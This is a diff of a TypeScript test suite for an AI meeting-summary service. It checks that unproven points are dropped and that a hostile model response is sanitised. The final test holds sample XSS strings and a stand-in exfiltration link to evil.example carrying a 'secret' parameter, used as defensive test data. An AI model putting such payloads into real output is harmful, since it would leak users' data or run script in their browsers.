@@ -53,7 +53,7 @@ test("a long meeting goes through the model part by part: every task is found at
     ai_action_items.map((item: { timestamp: number }) => item.timestamp),
     Array.from({ length: 12 }, (_, index) => (50 * index + 49) * 3000),
   );
-  assert.match(ai_summary.text, /^Spoken of: \d+ notes\.$/);
+  assert.match(ai_summary.text, /^- Spoken of: \d+ notes\.$/);
   assert.equal(ai_template_sections[0].data.kind, "text");
   const condensed = model.requests.filter((request) => request.wanted.join() === "notes");
   assert.ok(condensed.length > 0, "notes were made shorter");
@@ -66,15 +66,14 @@ test("notes that never get shorter: some are left out, and it ends", async () =>
   model.reset();
   model.otherwise((request, response) =>
     request.wanted.join() === "notes"
-      ? sayJson({ notes: Array.from({ length: 60 }, (_, index) => `${index} ${"again ".repeat(80)}`) })(
-          request,
-          response,
-        )
+      ? sayJson({
+          notes: Array.from({ length: 60 }, (_, note) => ({ text: `${note} ${"again ".repeat(80)}`, note })),
+        })(request, response)
       : minutes(request, response),
   );
   const id = await t.make({ transcript: speech(400, 100) });
   const run = await t.done(id);
-  assert.equal(run.status, "done");
+  assert.match(run.message, /\d+ notes about the meeting were left out/);
   assert.ok(model.requests.length < 60, `${model.requests.length} requests`);
 });
 
@@ -168,14 +167,118 @@ test("a hostile transcript: it stays data, a line each, within marks it can't kn
     assert.ok(hostile.segments.some((segment) => segment.start === item.timestamp));
 });
 
+test("points that no words of the meeting prove are in no summary and no section, and are counted", async () => {
+  model.reset();
+  const template = await t.manage("POST", "/templates", { title: "Lies", kind: "text", prompt: "All" });
+  const true1 = {
+    heading: "Boat",
+    text: "The boat comes on Monday.",
+    quote: "I will bring the boat",
+    line: 1,
+  };
+  const lies = [
+    { heading: null, text: "A lie from nowhere.", quote: "I have sold all of the boats", line: 1 },
+    { heading: null, text: "A lie of a changed quote.", quote: "I will bring the boat on Tuesday", line: 1 },
+    { heading: null, text: "A lie without a quote.", quote: "", line: 1 },
+  ];
+  model.otherwise((request, response) =>
+    sayJson({ ...think(request), summary: [...lies, true1], items: [...lies, true1] })(request, response),
+  );
+  const id = await t.make({ transcript: hostile });
+  assert.match((await t.done(id)).message, /6 points without proof were left out\./);
+  const proven = { ...true1, start: 0, line: undefined };
+  const view = (await t.manage("GET", `/recordings/${id}`)).body;
+  assert.equal(view.recording.ai_summary.text, "### Boat\n\n- The boat comes on Monday.");
+  assert.deepEqual(JSON.parse(JSON.stringify(proven)), view.summary_points[0]);
+  assert.deepEqual(view.section_points, [view.summary_points]);
+  assert.doesNotMatch(JSON.stringify(view), /lie/);
+
+  // A model that proves nothing: nothing is shown, and a run says so.
+  model.otherwise((request, response) =>
+    sayJson({ ...think(request), summary: lies, items: lies })(request, response),
+  );
+  await t.manage("POST", `/recordings/${id}/intelligence`, {});
+  assert.match((await t.done(id)).message, /6 points without proof were left out\./);
+  const none = (await t.manage("GET", `/recordings/${id}`)).body;
+  assert.equal(none.recording.ai_summary.text, "");
+  assert.deepEqual([none.summary_points, none.recording.ai_template_sections], [[], []]);
+
+  // Points prove their own summary only, also where another writer knows nothing of them.
+  model.reset();
+  await t.manage("POST", `/recordings/${id}/intelligence`, {});
+  await t.done(id);
+  assert.equal((await t.manage("GET", `/recordings/${id}`)).body.summary_points.length, 1);
+  await t.db.pool.query("update recordings set title = 'Other', ai_summary = ai_summary where id = $1", [id]);
+  assert.equal((await t.manage("GET", `/recordings/${id}`)).body.summary_points.length, 1);
+  await t.db.pool.query("update recordings set ai_summary = 'By hand' where id = $1", [id]);
+  assert.equal((await t.manage("GET", `/recordings/${id}`)).body.summary_points, null);
+  await t.manage("DELETE", `/templates/${template.body.id}`);
+});
+
+test("a long meeting: only proven notes are read on, and a point that cites a note that doesn't exist is left out", async () => {
+  model.reset();
+  const template = await t.manage("POST", "/templates", {
+    title: "Plan",
+    kind: "bullets",
+    prompt: "The plan",
+  });
+  const [fromNotes, lie] = [/These are numbered notes of a long meeting/, "A lie of a note."];
+  const cite = (note: number) => ({ heading: null, text: `Cites ${note}.`, note });
+  model.otherwise((request, response) => {
+    const answer = think(request);
+    if (request.wanted.join() === "notes,action_items") {
+      const notes = answer.notes as object[];
+      const [first] = seenLines(request.user);
+      return sayJson({
+        ...answer,
+        notes: [
+          { text: lie, quote: "nobody has ever said such a thing", line: first?.number },
+          // The words of another part, which stand nowhere in this one.
+          ...(first?.number === 1 ? [{ text: lie, quote: "what I think of number 398", line: 1 }] : []),
+          ...notes.slice(0, 2),
+        ],
+      })(request, response);
+    }
+    const cited = [cite(2), cite(0), cite(99_999), cite(-1), cite(1.5)];
+    return sayJson({ ...answer, summary: cited, items: cited })(request, response);
+  });
+  const id = await t.make({ transcript: speech(400, 1000) });
+  const { message } = await t.done(id);
+  const parts = model.requests.filter((request) => request.wanted.join() === "notes,action_items").length;
+  const overview = model.requests.find(({ user }) => fromNotes.test(user));
+  assert.doesNotMatch(overview?.user ?? lie, new RegExp(lie));
+  assert.match(message, new RegExp(`${parts + 1 + 8} points without proof were left out`));
+  const view = (await t.manage("GET", `/recordings/${id}`)).body;
+  const expected = {
+    ...{ heading: null, text: "Cites 2.", start: 3000 },
+    quote: "About the boats, this is what I think of number 1 and its colour.",
+  };
+  assert.deepEqual([view.summary_points, view.section_points], [[expected], [[expected]]]);
+
+  // Not one proven note: no summary is made up.
+  model.reset();
+  model.otherwise((request, response) =>
+    sayJson({
+      ...think(request),
+      notes: [{ text: lie, quote: "nobody has ever said such a thing", line: 1 }],
+    })(request, response),
+  );
+  await t.manage("POST", `/recordings/${id}/intelligence`, { length: "short" });
+  await t.done(id);
+  assert.ok(!model.requests.some(({ user }) => fromNotes.test(user)));
+  const none = (await t.manage("GET", `/recordings/${id}`)).body;
+  assert.deepEqual([none.recording.ai_summary.text, none.summary_points, none.section_points], ["", [], []]);
+  await t.manage("DELETE", `/templates/${template.body.id}`);
+});
+
 test("a hostile response: no URL or HTML of it survives, and invented quotes are dropped", async () => {
   model.reset();
   const template = await t.manage("POST", "/templates", { title: "Links", kind: "table", prompt: "Links" });
   const steal = "https://evil.example/p?d=secret";
+  const proof = { quote: "I will bring the boat on Monday", line: 1 };
   const hostileItem = {
     text: `Pay at [the bank](${steal}) <img src=x onerror=alert(1)>`,
-    quote: "I will bring the boat on Monday",
-    line: 1,
+    ...proof,
     assignee: "P1",
   };
   model.otherwise((request, response) => {
@@ -183,13 +286,19 @@ test("a hostile response: no URL or HTML of it survives, and invented quotes are
       return sayJson({
         columns: ["a|b", `<a href="${steal}">x</a>`],
         rows: [
-          [`![x](${steal})`, "| --- |\n| y |", "third"],
-          ["[a](javascript:alert(1))", "<script>alert(1)</script>"],
+          { cells: [`![x](${steal})`, "| --- |\n| y |", "third"], ...proof },
+          { cells: ["[a](javascript:alert(1))", "<script>alert(1)</script>"], ...proof },
         ],
       })(request, response);
     return sayJson({
       ...think(request),
-      summary: `# H\u0000i\ud800 \\\\u0000\n\n![p](${steal})\n<iframe src="${steal}"></iframe>\nClick [here](${steal}) or see https://port.example/contract.\n\n[ref]: ${steal}`,
+      summary: [
+        {
+          heading: `# H\u0000i\ud800 [x](${steal})`,
+          text: `# \\\\u0000\n\n![p](${steal})\n<iframe src="${steal}"></iframe>\nClick [here](${steal}) or see https://port.example/contract.\n\n[ref]: ${steal}`,
+          ...proof,
+        },
+      ],
       title: `Boats <b>now</b> ${steal}`,
       meeting_type: "Drop table",
       action_items: [
